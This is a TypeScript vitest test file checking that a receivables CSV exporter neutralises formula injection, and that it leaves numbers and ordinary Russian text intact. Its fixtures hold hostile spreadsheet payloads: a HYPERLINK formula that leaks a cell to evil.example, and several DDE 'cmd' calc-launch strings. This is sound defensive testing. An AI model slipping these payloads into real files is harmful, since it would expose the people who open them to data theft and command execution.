import { describe, expect, it } from 'vitest'
import { toCsv } from '../../../src/domain/receivables/csv.ts'

/** The one data line of a CSV with a single column. */
function cell(value: string | number): string {
  return toCsv(['x'], [[value]]).split('\r\n')[1] ?? ''
}

describe('domain/receivables/csv: no cell reaches a spreadsheet as a formula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1;"Оплатить")', '"\'=HYPERLINK(""http://evil.example/?x=""&A1;""Оплатить"")"'],
    ['=cmd|\' /C calc\'!A0', '"\'=cmd|\' /C calc\'!A0"'],
    ['+7 (999) 123-45-67', '"\'+7 (999) 123-45-67"'],
    ['-2+3+cmd|\' /C calc\'!A0', '"\'-2+3+cmd|\' /C calc\'!A0"'],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', '"\'@SUM(1+1)*cmd|\' /C calc\'!A0"'],
    ['\t=1+1', '"\'\t=1+1"'],
    ['\r=1+1', '"\'\r=1+1"'],
    ['-', '"\'-"'],
  ])('neutralises the text %j', (text, written) => {
    expect(cell(text)).toBe(written)
  })

  it.each([
    ['-1234,50', '-1234,50'],
    ['-1234.50', '-1234.50'],
    ['1234,50', '1234,50'],
    ['-12,5', '-12,5'],
    ['-1 234,50', '-1 234,50'],
    ['-1\u00A0234,50', '-1\u00A0234,50'],
    [-5, '-5'],
    [0.5, '0.5'],
  ])('keeps the number %j a number', (value, written) => {
    expect(cell(value)).toBe(written)
  })

  it.each([
    ['ООО «Ромашка»', 'ООО «Ромашка»'],
    ['Счёт = 5', 'Счёт = 5'],
    ['01.05.2026', '01.05.2026'],
    ['', ''],
  ])('leaves the harmless text %j as it was', (text, written) => {
    expect(cell(text)).toBe(written)
  })

  it('neutralises the header row too', () => {
    expect(toCsv(['=1+1'], []).slice(1)).toBe('"\'=1+1"\r\n')
  })
})
